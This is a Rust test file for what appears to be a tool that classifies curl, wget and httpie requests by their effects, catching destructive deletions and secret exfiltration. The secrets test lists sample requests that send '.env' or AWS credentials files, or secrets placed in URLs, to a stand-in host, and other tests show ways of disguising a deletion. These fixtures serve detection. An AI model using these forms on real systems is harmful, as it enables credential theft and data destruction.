//! Cases of requests and of the programs that make them.

use std::collections::BTreeMap;

use super::client::{self, ClientCall};
use super::fixture::{Random, deletes_the_volume, is_harmless, is_opaque, setting};
use super::*;
use crate::catalogue::spec::HttpClient;
use crate::interpret::value::{Origin, Piece, Stream};
use crate::vocabulary::{CredentialSource, ResourceType, Reversibility, Verb};

const GRAPHQL: &str = "https://api.acme.test/graphql/v2";
const DELETION: &str = r#"{"query":"mutation { volumeDelete(volumeId: \"vol_1\") }"}"#;

/// A value in which `${NAME}` is a variable that is not known, `$(@path)` the content of a file and
/// `$()` something unseen.
fn value(text: &str) -> Value {
    let mut pieces = Vec::new();
    let mut rest = text;
    let mut push = |text: Option<&str>, origin| {
        pieces.push(Piece {
            text: text.map(str::to_owned),
            origin,
            pattern: false,
        });
    };
    while let Some(at) = rest.find("${").into_iter().chain(rest.find("$(")).min() {
        push(Some(&rest[..at]), Origin::Literal);
        let inner = &rest[at + 2..];
        let end = inner.find(['}', ')']).unwrap();
        push(
            None,
            match (&rest[at + 1..at + 2], inner[..end].strip_prefix('@')) {
                ("{", _) => Origin::Variable(inner[..end].to_owned()),
                (_, Some(path)) => Origin::File(path.to_owned()),
                _ => Origin::Unseen,
            },
        );
        rest = &inner[end + 1..];
    }
    push(Some(rest), Origin::Literal);
    Value {
        pieces,
        span: (0, 0),
    }
}

struct Case {
    client: HttpClient,
    stdin: Stream,
    files: BTreeMap<String, Stream>,
}

impl Case {
    fn of(client: HttpClient) -> Self {
        Self {
            client,
            stdin: Stream::default(),
            files: BTreeMap::new(),
        }
    }

    fn drafts(&self, options: &[(&str, &str)], operands: &[&str]) -> Vec<Draft> {
        let call = ClientCall {
            client: self.client,
            options: options
                .iter()
                .map(|(role, text)| (*role, value(text)))
                .collect(),
            operands: operands.iter().map(|text| value(text)).collect(),
            stdin: &self.stdin,
            files: &self.files,
            span: (3, 9),
        };
        client::drafts(&call, &setting())
    }
}

fn curl(options: &[(&str, &str)], operands: &[&str]) -> Vec<Draft> {
    Case::of(HttpClient::Curl).drafts(options, operands)
}

fn httpie(operands: &[&str]) -> Vec<Draft> {
    Case::of(HttpClient::Httpie).drafts(&[], operands)
}

#[test]
fn the_deletion_is_found_through_every_client() {
    let raw = r#"mutation { volumeDelete(volumeId: "vol_1") }"#;
    let get =
        "https://api.acme.test/graphql/v2?query=mutation%7BvolumeDelete(volumeId%3A%22vol_1%22)%7D";
    let operations = format!("operations={DELETION}");
    let field = format!("query={raw}");
    for options in [
        vec![("data", DELETION)],
        vec![("method", "POST"), ("data-raw", DELETION)],
        vec![("json", DELETION)],
        vec![
            ("header", "Content-Type: application/graphql"),
            ("data-binary", raw),
        ],
        vec![("data-urlencode", field.as_str())],
        vec![("get", "-G"), ("data-urlencode", field.as_str())],
        vec![("query", field.as_str())],
        vec![("form", operations.as_str())],
        vec![("form-string", field.as_str())],
        vec![
            ("header", "authorization: Bearer ${ACME_TOKEN}"),
            ("data", DELETION),
        ],
    ] {
        assert!(
            deletes_the_volume(&curl(&options, &[GRAPHQL])),
            "{options:?}"
        );
    }
    for url in [
        "api.acme.test/graphql/v2",
        "HTTPS://API.acme.TEST:443//graphql/./v2/",
        "https://api.acme.test./graphql/%76%32",
        "https://eu.acme-cloud.test/graphql/v2",
        "https://ann:pw@api.acme.test/graphql/v2#x",
        "https://api.acme.test/graphql/elsewhere",
    ] {
        assert!(
            deletes_the_volume(&curl(&[("data", DELETION)], &[url])),
            "{url}"
        );
    }
    assert!(deletes_the_volume(&curl(&[], &[get])));
    assert!(deletes_the_volume(&curl(
        &[("url", GRAPHQL), ("data", DELETION)],
        &[]
    )));
    let wget = Case::of(HttpClient::Wget);
    assert!(deletes_the_volume(
        &wget.drafts(&[("data", DELETION), ("output", "-")], &[GRAPHQL])
    ));
    for operands in [
        vec!["POST", GRAPHQL, field.as_str()],
        vec![GRAPHQL, field.as_str()],
        vec![
            GRAPHQL,
            "query=mutation M($i: ID) { volumeDelete(volumeId: $i) }",
            r#"variables:={"i":"vol_1"}"#,
        ],
        vec![
            GRAPHQL,
            "query=mutation M($i: ID) { volumeDelete(volumeId: $i) }",
            "variables[i]=vol_1",
        ],
    ] {
        assert!(deletes_the_volume(&httpie(&operands)), "{operands:?}");
    }
}

#[test]
fn bodies_come_from_streams_and_files_of_the_call() {
    for client in [HttpClient::Curl, HttpClient::Httpie] {
        let mut case = Case::of(client);
        case.stdin = Stream::literal(DELETION);
        let options: &[(&str, &str)] = if client == HttpClient::Curl {
            &[("data", "@-")]
        } else {
            &[]
        };
        assert!(deletes_the_volume(&case.drafts(options, &[GRAPHQL])));
    }
    let mut case = Case::of(HttpClient::Curl);
    case.files
        .insert("/repo/q.json".to_owned(), Stream::literal(DELETION));
    assert!(deletes_the_volume(
        &case.drafts(&[("data", "@./q.json")], &[GRAPHQL])
    ));
    assert!(deletes_the_volume(
        &case.drafts(&[("upload", "q.json")], &[GRAPHQL])
    ));
    case.client = HttpClient::Wget;
    assert!(deletes_the_volume(
        &case.drafts(&[("post-file", "q.json")], &[GRAPHQL])
    ));
    assert!(is_opaque(&curl(&[("data", "@q.json")], &[GRAPHQL])));
    assert!(is_opaque(&curl(&[("data", "@-")], &[GRAPHQL])));
    assert!(is_opaque(&curl(&[("data", "${BODY}")], &[GRAPHQL])));
    assert!(is_opaque(&curl(
        &[("data", r#"{"query":"${QUERY}"}"#)],
        &[GRAPHQL]
    )));
    assert!(is_opaque(&curl(&[("method", "POST")], &[GRAPHQL])));
    assert!(is_opaque(&curl(
        &[("data", "${BODY}")],
        &["https://elsewhere.test/graphql"]
    )));
    assert!(is_opaque(&curl(
        &[],
        &["https://api.acme.test/graphql/v2?extensions=x"]
    )));
    assert!(is_opaque(&httpie(&[GRAPHQL, "${ITEM}"])));
}

#[test]
fn neighbours_of_the_deletion_pass() {
    let note = r#"{"query":"query($t:String){note(text:$t){id}}","variables":{"t":"mutation { volumeDelete }"}}"#;
    assert!(is_harmless(&curl(&[("data", note)], &[GRAPHQL])));
    assert!(is_harmless(&curl(
        &[("data", r#"{"query":"{ me { id } }"}"#)],
        &[GRAPHQL]
    )));
    assert!(is_harmless(&curl(&[], &[GRAPHQL])));
    assert!(is_harmless(&curl(
        &[("method", "OPTIONS"), ("data", DELETION)],
        &[GRAPHQL]
    )));
    assert!(is_harmless(&curl(
        &[],
        &["https://docs.test/api/delete-volume?query=delete"]
    )));
    let other = curl(&[("data", DELETION)], &["https://notes.test/items"]);
    assert!(
        other
            .iter()
            .all(|draft| draft.operation == "graphql:volumeDelete")
    );
    let text = curl(
        &[("data", r#"{"text":"volumeDelete(volumeId: 1)"}"#)],
        &["https://notes.test/items"],
    );
    assert_eq!((text.len(), text[0].verb), (1, Verb::Create));
    let header = curl(
        &[("header", "X-Note: mutation { volumeDelete }")],
        &["https://api.acme.test/v1/x"],
    );
    assert!(is_harmless(&header));
}

#[test]
fn several_requests_of_one_command_are_kept_apart() {
    let drafts = curl(&[("data", DELETION)], &["https://notes.test/a", GRAPHQL]);
    assert!(deletes_the_volume(&drafts));
    let mut call = ClientCall {
        client: HttpClient::Curl,
        options: vec![
            ("data", value(DELETION).at((10, 20))),
            ("next", value("--next").at((40, 46))),
            ("head", value("-I").at((50, 52))),
        ],
        operands: vec![value(GRAPHQL).at((60, 70))],
        stdin: &Stream::default(),
        files: &BTreeMap::new(),
        span: (0, 80),
    };
    assert!(is_harmless(&client::drafts(&call, &setting())));
    call.operands = vec![value(GRAPHQL).at((22, 39))];
    assert!(deletes_the_volume(&client::drafts(&call, &setting())));
    call.operands = vec![value(GRAPHQL)];
    assert!(deletes_the_volume(&client::drafts(&call, &setting())));
    let ids = |url: &str| -> Vec<String> {
        let drafts = curl(&[("method", "DELETE")], &[url]);
        drafts
            .iter()
            .map(|draft| draft.resource.id.clone())
            .collect()
    };
    assert_eq!(ids("https://api.acme.test/v1/volumes/{a,b}"), ["a", "b"]);
    assert_eq!(
        ids("https://api.acme.test/v1/volumes/v[08-10]"),
        ["v08", "v09", "v10"]
    );
    assert_eq!(ids("https://api.acme.test/v1/volumes/v[1-5000]"), ["v*"]);
    assert_eq!(
        ids("https://api.acme.test/v1/volumes/[1-9][1-9]"),
        (1..=9).map(|n| format!("{n}*")).collect::<Vec<_>>()
    );
}

#[test]
fn routes_are_matched_by_the_most_literal_path() {
    let one = |method: &str, url: &str| curl(&[("method", method)], &[url]).remove(0);
    let draft = one("delete", "https://api.acme.test/v1/volumes/vol_9");
    assert_eq!(
        (draft.operation.as_ref(), draft.resource.id.as_str()),
        ("acme:deleteVolume", "vol_9")
    );
    assert_eq!(
        one("DELETE", "https://api.acme.test/v1/volumes/cache").operation,
        "acme:clearCache"
    );
    let draft = one("DELETE", "https://api.acme.test/v1/volumes/${ID}");
    assert_eq!(
        (draft.operation.as_ref(), draft.completeness),
        ("acme:deleteVolume", Completeness::Partial)
    );
    assert_eq!(
        one("GET", "https://api.acme.test/v1/volumes/vol_9").operation,
        "http:get"
    );
    assert_eq!(
        one("POST", "https://api.acme.test/v1/objects/a/b")
            .resource
            .id,
        "a/b"
    );
    let drafts = curl(
        &[("data", r#"{"name":"n"}"#)],
        &["https://api.acme.test/v1/objects/a"],
    );
    assert_eq!(drafts[0].resource.id, "n");
    let guess = curl(
        &[("method", "DELETE")],
        &["https://api.acme.test/v1/${KIND}/x"],
    );
    assert!(
        guess
            .iter()
            .any(|draft| draft.operation == "acme:deleteVolume")
    );
    let hidden = curl(
        &[
            ("method", "POST"),
            ("header", "X-HTTP-Method-Override: delete"),
        ],
        &["https://api.acme.test/v1/volumes/vol_9"],
    );
    assert!(
        hidden
            .iter()
            .any(|draft| draft.operation == "acme:deleteVolume")
    );
}

#[test]
fn unknown_hosts_are_judged_by_method_and_path() {
    let one = |method: &str, url: &str| {
        let draft = curl(&[("method", method)], &[url]).remove(0);
        (
            draft.verb,
            draft.reversibility,
            draft.operation.into_owned(),
        )
    };
    let url = "https://shop.test/orders/7?x=1";
    assert_eq!(
        one("GET", url),
        (Verb::Read, Reversibility::None, "http:get".to_owned())
    );
    assert_eq!(one("DELETE", url).0, Verb::Delete);
    assert_eq!(one("PUT", url).0, Verb::Update);
    assert_eq!(one("POST", url).0, Verb::Create);
    assert_eq!(one("PURGE", url).0, Verb::Delete);
    assert_eq!(one("FROB", url).0, Verb::Unknown);
    assert_eq!(
        one("POST", "https://shop.test/orders/7/delete").0,
        Verb::Delete
    );
    assert_eq!(
        one("POST", "https://shop.test/orders:batchDelete").1,
        Reversibility::Irreversible
    );
    assert_eq!(one("GET", "gopher://shop.test:6379/_x").0, Verb::Unknown);
    let unseen = curl(&[("method", "${M}")], &[url]).remove(0);
    assert_eq!(
        (unseen.verb, unseen.completeness),
        (Verb::Unknown, Completeness::Opaque)
    );
    let draft = curl(&[], &["https://ann:pw@Shop.test/a%20b?token=1#f"]).remove(0);
    assert_eq!(
        (draft.resource.kind, draft.resource.id.as_str()),
        (ResourceType::Service, "shop.test/a b")
    );
    assert_eq!(draft.resource.parents[0].id, "shop.test");
    assert!(draft.effects.contains(Effect::Egress));
}

#[test]
fn hosts_are_known_only_when_every_reader_agrees() {
    let host = |url: &str| {
        let draft = curl(&[], &[url]).remove(0);
        let host = draft
            .selectors
            .iter()
            .find(|one| one.kind == SelectorKind::Host)
            .cloned();
        (
            host.map(|one| one.value),
            draft.effects.contains(Effect::Egress),
            draft.completeness,
        )
    };
    let name = |text: &str| Some(text.to_owned());
    assert_eq!(
        host("https://a.test/${P}"),
        (name("a.test"), true, Completeness::Partial)
    );
    for url in [
        "https://a.test${P}",
        "https://${H}/x",
        "${URL}",
        "https://a.test:${PORT}/x",
        "https://a.test\\@b.test/x",
        "https://u:$()@a.test/x",
        "https://a@b@c.test/",
        "https://a{b,c}${x}.test",
    ] {
        assert_eq!(host(url).0, None, "{url}");
        assert_eq!(host(url).2, Completeness::Partial, "{url}");
    }
    assert_eq!(host("https://u:${PASS}@a.test/x").0, name("a.test"));
    assert_eq!(
        host("http://0x7f.1/"),
        (name("127.0.0.1"), false, Completeness::Exact)
    );
    for url in [
        "localhost:3000/x",
        "http://[::1]:8/",
        "http://[::ffff:127.0.0.1]/",
        "http://x.localhost",
    ] {
        assert!(!host(url).1, "{url}");
    }
    assert_eq!(host("http://bücher.test/").0, name("xn--bcher-kva.test"));
    for role in ["proxy", "resolve"] {
        let drafts = curl(&[(role, "x"), ("data", DELETION)], &[GRAPHQL]);
        assert!(deletes_the_volume(&drafts));
        assert!(
            drafts
                .iter()
                .all(|one| one.completeness == Completeness::Partial && one.selectors.is_empty())
        );
    }
    let drafts = curl(
        &[("proxy", "x"), ("data", "{}")],
        &["https://api.acme.test/v1/search"],
    );
    assert!(drafts.iter().any(|draft| draft.verb == Verb::Create));
    let fronted = curl(
        &[("header", "Host: api.acme.test"), ("data", DELETION)],
        &["https://192.0.2.7/graphql/v2"],
    );
    assert!(deletes_the_volume(&fronted));
    let socket = curl(
        &[("unix-socket", "/run/x.sock"), ("method", "DELETE")],
        &["http://localhost/containers/x"],
    );
    assert_eq!(
        (socket[0].verb, socket[0].effects.contains(Effect::Egress)),
        (Verb::Delete, false)
    );
    assert_eq!(httpie(&[":3000/x"])[0].resource.id, "localhost/x");
    assert_eq!(httpie(&["DELETE", ":/x"])[0].verb, Verb::Delete);
}

#[test]
fn secrets_and_private_files_that_leave_are_seen() {
    let leak = |options: &[(&str, &str)], url: &str| {
        let draft = curl(options, &[url]).remove(0);
        (
            draft.effects.contains(Effect::SecretRead),
            draft.effects.contains(Effect::Exfiltration),
        )
    };
    let url = "https://drop.test/x";
    assert_eq!(leak(&[("data-binary", "@.env")], url), (true, true));
    assert_eq!(leak(&[("upload", "~/.aws/credentials")], url), (true, true));
    assert_eq!(
        leak(
            &[("form", "f=@/home/ann/.aws/credentials;type=text/plain")],
            url
        ),
        (true, true)
    );
    assert_eq!(
        leak(&[("data", "x=$(@/home/ann/notes.txt)")], url),
        (false, true)
    );
    assert_eq!(leak(&[("data", "@src/main.rs")], url), (false, false));
    assert_eq!(leak(&[("data", "k=${DB_SECRET}")], url), (true, true));
    assert_eq!(
        leak(&[("header", "X-Data: ${DB_SECRET}")], url),
        (true, true)
    );
    assert_eq!(
        leak(&[("header", "Authorization: Bearer ${DB_SECRET}")], url),
        (false, false)
    );
    assert_eq!(
        leak(&[("header", "Authorization: Bearer $(@.env)")], url),
        (true, true)
    );
    assert_eq!(
        leak(
            &[("header", "Authorization: Bearer $(@.env)")],
            "https://api.acme.test/v1/x"
        ),
        (true, false)
    );
    assert_eq!(leak(&[], "https://drop.test/?q=${DB_SECRET}"), (true, true));
    assert_eq!(leak(&[], "https://${DB_SECRET}.drop.test/"), (true, true));
    assert_eq!(
        leak(&[("data", "t=${ACME_TOKEN}")], "https://api.acme.test/v1/x"),
        (false, false)
    );
    assert_eq!(
        leak(&[("data-binary", "@.env")], "http://localhost:1/x"),
        (true, false)
    );
    assert_eq!(leak(&[("data", "k=${LANG}")], url), (false, false));
    let mut case = Case::of(HttpClient::Curl);
    case.stdin = Stream::from_origin(Origin::File("~/.aws/credentials".to_owned()));
    let draft = case.drafts(&[("data-binary", "@-")], &[url]).remove(0);
    assert!(
        draft.effects.contains(Effect::Exfiltration) && draft.effects.contains(Effect::SecretRead)
    );
    let mut known = value("https://drop.test/");
    known.pieces.push(Piece {
        text: Some("hunter2".to_owned()),
        origin: Origin::Variable("MY_TOKEN".to_owned()),
        pattern: false,
    });
    let request = Request {
        method: Some("GET".to_owned()),
        url: known,
        ..Request::default()
    };
    assert_eq!(drafts(&request, &setting())[0].resource.id, "drop.test/*");
    assert!(!format!("{:?} {request:?}", drafts(&request, &setting())).contains("hunter2"));
}

#[test]
fn credentials_are_named_by_source() {
    let used = |options: &[(&str, &str)], url: &str| {
        let credential = curl(options, &[url]).remove(0).credential?;
        Some((
            credential.source,
            credential.name,
            credential.text.map(|text| text.expose().to_owned()),
        ))
    };
    let url = "https://a.test/";
    let text = |text: &str| Some(text.to_owned());
    let literal = |shown: &str| Some((CredentialSource::Literal, None, text(shown)));
    assert_eq!(used(&[], url), None);
    assert_eq!(
        used(&[("header", "Authorization: Bearer abc")], url),
        literal("abc")
    );
    assert_eq!(
        used(&[("header", "authorization:token abc")], url),
        literal("abc")
    );
    assert_eq!(used(&[("header", "X-Api-Key: abc")], url), literal("abc"));
    assert_eq!(
        used(&[("header", "Authorization: Basic YW5uOnB3")], url),
        literal("pw")
    );
    assert_eq!(used(&[("user", "ann:pw")], url), literal("pw"));
    assert_eq!(used(&[("user", "sk_1:")], url), literal("sk_1"));
    assert_eq!(used(&[("bearer", "abc")], url), literal("abc"));
    assert_eq!(used(&[], "https://ann:pw@a.test/"), literal("pw"));
    assert_eq!(used(&[("cookie", "s=1")], url), literal("s=1"));
    assert_eq!(
        used(&[("cookie", "jar.txt")], url),
        Some((CredentialSource::File, text("jar.txt"), None))
    );
    assert_eq!(
        used(
            &[("header", "Authorization: Bearer ${T}"), ("cookie", "s=1")],
            url
        ),
        Some((CredentialSource::Environment, text("T"), None))
    );
    assert_eq!(
        used(
            &[("header", "Authorization: Bearer $(@/home/ann/.rc)")],
            url
        ),
        Some((CredentialSource::File, text("/home/ann/.rc"), None))
    );
    assert_eq!(
        used(&[("user", "ann:$()")], url),
        Some((CredentialSource::Unknown, None, None))
    );
    assert_eq!(
        used(&[("user", "ann:${P}")], url),
        Some((CredentialSource::Environment, text("P"), None))
    );
}

#[test]
fn downloads_write_files() {
    let written = |case: &Case, options: &[(&str, &str)], url: &str| -> Vec<String> {
        let drafts = case.drafts(options, &[url]);
        let files = drafts.iter().filter(|draft| draft.operation == "fs:write");
        files.map(|draft| draft.resource.id.clone()).collect()
    };
    let case = Case::of(HttpClient::Curl);
    let url = "https://a.test/d/f.tgz?x=1";
    assert!(written(&case, &[], url).is_empty());
    assert!(written(&case, &[("output", "-")], url).is_empty());
    assert!(written(&case, &[("output", "/dev/null")], url).is_empty());
    assert_eq!(
        written(&case, &[("output", "out.bin")], url),
        ["/repo/out.bin"]
    );
    assert_eq!(
        written(&case, &[("remote-name", "-O")], url),
        ["/repo/f.tgz"]
    );
    assert_eq!(
        written(
            &case,
            &[("remote-name", "-O"), ("output-dir", "/tmp/d")],
            url
        ),
        ["/tmp/d/f.tgz"]
    );
    let case = Case::of(HttpClient::Wget);
    assert_eq!(written(&case, &[], url), ["/repo/f.tgz"]);
    assert_eq!(written(&case, &[], "a.test"), ["/repo/index.html"]);
    assert_eq!(
        written(&case, &[("output-dir", "d")], url),
        ["/repo/d/f.tgz"]
    );
    assert!(written(&case, &[("output", "-")], url).is_empty());
    assert!(written(&case, &[("spider", "--spider")], url).is_empty());
    let read = curl(&[], &["file:///repo/.env"]).remove(0);
    assert_eq!(
        (read.operation.as_ref(), read.resource.id.as_str()),
        ("fs:read", "/repo/.env")
    );
    assert!(read.effects.contains(Effect::SecretRead) && !read.effects.contains(Effect::Egress));
    assert!(is_opaque(&curl(&[("config", "rc")], &[])));
    assert!(is_opaque(&case.drafts(&[("input-file", "list")], &[])));
    assert!(curl(&[], &[]).is_empty());
}

#[test]
fn tools_that_take_a_url_are_read() {
    let read = |text: &str| {
        let arguments = json::read(text).unwrap();
        let url = arguments.get("url").unwrap().values().remove(0);
        drafts(&url_tool::from_arguments(&arguments, &url), &setting())
    };
    let deletion = serde_json::Value::from(DELETION);
    assert!(deletes_the_volume(&read(&format!(
        r#"{{"url":"{GRAPHQL}","method":"post","body":{deletion}}}"#
    ))));
    assert!(deletes_the_volume(&read(&format!(
        r#"{{"url":"{GRAPHQL}","json":{DELETION}}}"#
    ))));
    assert!(deletes_the_volume(&read(&format!(
        r#"{{"url":"{GRAPHQL}","query":"mutation($i:ID){{volumeDelete(volumeId:$i)}}","variables":{{"i":"vol_1"}}}}"#
    ))));
    let draft =
        read(r#"{"url":"https://a.test/x","headers":{"Authorization":"Bearer t"}}"#).remove(0);
    assert_eq!((draft.verb, draft.credential.is_some()), (Verb::Read, true));
    assert_eq!(
        read(r#"{"url":"https://api.acme.test/v1/volumes/v","method":"DELETE"}"#)[0]
            .resource
            .id,
        "v"
    );
    assert!(is_opaque(&read(&format!(
        r#"{{"url":"{GRAPHQL}","body":CHECKREIN_UNSEEN}}"#
    ))));
}

#[test]
fn random_words_never_panic() {
    let roles = [
        "url",
        "method",
        "header",
        "data",
        "data-raw",
        "data-urlencode",
        "json",
        "form",
        "upload",
        "output",
        "remote-name",
        "user",
        "bearer",
        "get",
        "head",
        "config",
        "proxy",
        "cookie",
        "next",
        "query",
        "resolve",
        "post-file",
        "raw",
        "spider",
        "password",
        "output-dir",
    ];
    let words = [
        "@",
        "=",
        ":",
        "//",
        "{",
        "}",
        "[",
        "]",
        "-",
        ",",
        "http",
        "é",
        "\\",
        "%",
        "%zz",
        "a",
        "${V_TOKEN}",
        "$()",
        "$(@.env)",
        "?",
        "#",
        "&",
        "\"",
        "1",
        " ",
        "GET",
        "query",
        "mutation",
        "::1",
        ".",
        ";",
    ];
    let mut random = Random(0x2545_f491_4f6c_dd1d);
    let mut word = |random: &mut Random| -> String {
        (0..random.next(9))
            .map(|_| words[random.next(words.len())])
            .collect()
    };
    for turn in 0..3_000 {
        let client = [HttpClient::Curl, HttpClient::Wget, HttpClient::Httpie][turn % 3];
        let options: Vec<(&str, String)> = (0..random.next(5))
            .map(|_| (roles[random.next(roles.len())], word(&mut random)))
            .collect();
        let options: Vec<(&str, &str)> = options
            .iter()
            .map(|(role, text)| (*role, text.as_str()))
            .collect();
        let operands: Vec<String> = (0..random.next(4)).map(|_| word(&mut random)).collect();
        let operands: Vec<&str> = operands.iter().map(String::as_str).collect();
        let _ = Case::of(client).drafts(&options, &operands);
    }
}
